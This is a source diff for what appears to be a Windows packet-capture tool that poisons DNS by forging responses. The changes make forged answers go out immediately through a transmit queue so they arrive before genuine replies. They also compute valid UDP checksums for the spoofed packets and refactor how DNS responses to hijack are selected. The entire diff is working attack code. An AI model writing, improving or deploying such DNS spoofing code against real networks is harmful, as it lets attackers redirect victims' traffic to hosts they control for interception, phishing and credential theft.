@@ -4,6 +4,7 @@
 #include <windows.h>
 #include <stdio.h>
 
+#include "Checksum.h"
 #include "DnsPoisoning.h"
 #include "DnsForge.h"
 #include "DnsHelper.h"
@@ -12,19 +13,20 @@
 #include "Logging.h"
 #include "NetworkHelperFunctions.h"
 #include "NetworkStructs.h"
+#include "PacketView.h"
+#include "Probes.h"
 
 
 extern PHOSTNODE gDnsSpoofingList;
 
 
-BOOL DnsResponseSpoofing(unsigned char * rawPacket, pcap_t *deviceHandle, PPOISONING_DATA spoofingRecord, char *srcIp, char *dstIp)
+BOOL DnsResponseSpoofing(unsigned char * rawPacket, PTRANSMIT_QUEUE transmitQueue, PPOISONING_DATA spoofingRecord)
 {
   BOOL retVal = FALSE;
   unsigned char *spoofedDnsResponse = NULL;
   int basePacketSize = sizeof(ETHDR) + sizeof(IPHDR) + sizeof(UDPHDR);
   PDNS_HEADER dnsBasicHdr = (PDNS_HEADER)(rawPacket + basePacketSize);
   PRAW_DNS_DATA responseData = NULL;
-  int counter = 0;
   
   // Create DNS response data block
   if (spoofingRecord->HostnodeToSpoof->Data.Type == RESP_A)
@@ -55,21 +57,17 @@ BOOL DnsResponseSpoofing(unsigned char * rawPacket, pcap_t *deviceHandle, PPOISO
   // Adjust and prepare data on OSI layer 2 to 4
   FixNetworkLayerData4Response(spoofedDnsResponse, responseData);
 
-  // Keep sending the crafted dns reply packet to client till max 5 times if not successful
-  for (counter = 5; counter > 0; counter--)
+  // The forged answer has to beat the real one. Send it right
+  // away together with whatever is queued ahead of it.
+  if (TransmitQueueAdd(transmitQueue, spoofedDnsResponse, basePacketSize + responseData->dataLength) == FALSE ||
+      TransmitQueueFlush(transmitQueue) <= 0)
   {
-    int funcRetVal = -2;
-    if ((funcRetVal = pcap_sendpacket(deviceHandle, (unsigned char *)spoofedDnsResponse, basePacketSize + responseData->dataLength)) != 0)
-    {
-      LogMsg(DBG_HIGH, "%2d Response DNS poisoning failed (%d) : %s -> %s, deviceHandle=0x%08x",
-        counter, funcRetVal, spoofingRecord->HostnodeToSpoof->Data.HostName, spoofingRecord->HostnodeToSpoof->Data.SpoofedIp, deviceHandle);
-      retVal = FALSE;
-    }
-    else
-    {
-      retVal = TRUE;
-      break;
-    }
+    LogMsg(DBG_HIGH, "Response DNS poisoning failed : %s -> %s", spoofingRecord->HostnodeToSpoof->Data.HostName, spoofingRecord->HostnodeToSpoof->Data.SpoofedIp);
+    retVal = FALSE;
+  }
+  else
+  {
+    retVal = TRUE;
   }
 
 END:
@@ -104,7 +102,7 @@ void FixNetworkLayerData4Response(unsigned char * data, PRAW_DNS_DATA responseDa
   unsigned char dstIpBin[BIN_IP_LEN];
   char srcIpStr[128];
   char dstIpStr[128];
-  PUDP_PSEUDO_HDR udpPseudoHdr;
+  uint32_t udpSum = 0;
   int basePacketSize = etherPacketSize + ipPacketSize + udpPacketSize;
 
   // 1. Copy source and destination MAC addresses
@@ -150,20 +148,21 @@ void FixNetworkLayerData4Response(unsigned char * data, PRAW_DNS_DATA responseDa
   udpHdr->ulen = htons(sizeof(UDPHDR) + responseData->dataLength);
   udpHdr->checksum = 0;
 
-  // UDP pseudo header checksum calculation
-  char tempDataBuffer[512];
-  ZeroMemory(&tempDataBuffer, sizeof(tempDataBuffer));
-  CopyMemory(tempDataBuffer + sizeof(UDP_PSEUDO_HDR), (unsigned char *)udpHdr, sizeof(UDPHDR) + responseData->dataLength);
-  udpPseudoHdr = (PUDP_PSEUDO_HDR)tempDataBuffer;
+  // UDP checksum over the pseudo header and the datagram as it
+  // is, 0 means "no checksum" in UDP
+  udpSum = ChecksumPseudoHeader(0, (unsigned char *)&ipHdr->saddr, (unsigned char *)&ipHdr->daddr, IP_PROTO_UDP, (unsigned short)(udpPacketSize + responseData->dataLength));
+  udpSum = ChecksumAdd(udpSum, udpHdr, udpPacketSize + responseData->dataLength);
+  udpHdr->checksum = ChecksumFold(udpSum);
 
-  udpPseudoHdr->saddr = ipHdr->saddr;
-  udpPseudoHdr->daddr = ipHdr->daddr;
-  udpPseudoHdr->unused = 0;
-  udpPseudoHdr->protocol = IP_PROTO_UDP;
-  udpPseudoHdr->udplen = htons(sizeof(UDPHDR) + responseData->dataLength);
+  if (udpHdr->checksum == 0)
+  {
+    udpHdr->checksum = 0xffff;
+  }
 
-  // UDP header checksum
-  udpHdr->checksum = in_cksum((unsigned short *) udpPseudoHdr, udpPacketSize + responseData->dataLength + sizeof(UDP_PSEUDO_HDR));
+  if (LogLevelEnabled(DBG_LOW) == FALSE)
+  {
+    return;
+  }
 
   ZeroMemory(srcIpStr, sizeof(srcIpStr));
   ZeroMemory(dstIpStr, sizeof(dstIpStr));
@@ -174,13 +173,8 @@ void FixNetworkLayerData4Response(unsigned char * data, PRAW_DNS_DATA responseDa
 }
 
 
-PPOISONING_DATA DnsResponsePoisonerGetHost2Spoof(u_char *dataParam)
+PPOISONING_DATA DnsResponsePoisonerGetHost2Spoof(u_char *dataParam, PPACKET_VIEW viewParam)
 {
-  PETHDR ethrHdr = (PETHDR)dataParam;
-  PIPHDR ipHdr = NULL;
-  PUDPHDR updHdr = NULL;
-  int ipHdrLen = 0;
-  char *data = NULL;
   char *dnsData = NULL;
   PPOISONING_DATA retVal = NULL;
   PHOSTNODE tmpNode = NULL;
@@ -189,40 +183,20 @@ PPOISONING_DATA DnsResponsePoisonerGetHost2Spoof(u_char *dataParam)
   int stop;
   unsigned char *peerName = NULL;
   
+  // DnsResponseSpoofing() copies a fixed size Eth/IP/UDP header block,
+  // so VLAN tags and IP options are not supported.
   if (gDnsSpoofingList->next == NULL || 
-      ethrHdr == NULL || 
-      htons(ethrHdr->ether_type) != ETHERTYPE_IP)
-  {
-    goto END;
-  }
-
-  ipHdr = (PIPHDR)(dataParam + sizeof(ETHDR));
-  if (ipHdr == NULL || 
-      ipHdr->proto != IP_PROTO_UDP)
-  {
-    goto END;
-  }
-
-  ipHdrLen = (ipHdr->ver_ihl & 0xf) * 4;
-  if (ipHdrLen <= 0)
-  {
-    goto END;
-  }
-
-  updHdr = (PUDPHDR)((unsigned char*)ipHdr + ipHdrLen);
-  if (updHdr == NULL || 
-      updHdr->ulen <= 0 || 
-      ntohs(updHdr->sport) != 53)
-  {
-    goto END;
-  }
-
-  dnsData = ((char*)updHdr + sizeof(UDPHDR));
-  if ((dnsHdr = (PDNS_HEADER)&dnsData[sizeof(DNS_HEADER)]) == NULL)
+      dataParam == NULL || 
+      (viewParam->Layers & PV_LAYER_UDP) == 0 ||
+      viewParam->PayloadOffset != sizeof(ETHDR) + sizeof(IPHDR) + sizeof(UDPHDR) ||
+      viewParam->SrcPort != 53 ||
+      viewParam->PayloadCapLength <= sizeof(DNS_HEADER))
   {
     goto END;
   }
 
+  dnsData = (char *)PV_PAYLOAD(dataParam, viewParam);
+  dnsHdr = (PDNS_HEADER)dnsData;
   if (ntohs(dnsHdr->q_count) <= 0)
   {
     goto END;
@@ -247,6 +221,8 @@ PPOISONING_DATA DnsResponsePoisonerGetHost2Spoof(u_char *dataParam)
     retVal->HostnodeToSpoof = tmpNode;
   }
 
+  PROBE_DNS_NAME(dataParam, peerName, tmpNode != NULL);
+
 END:
   if (peerName != NULL)
   {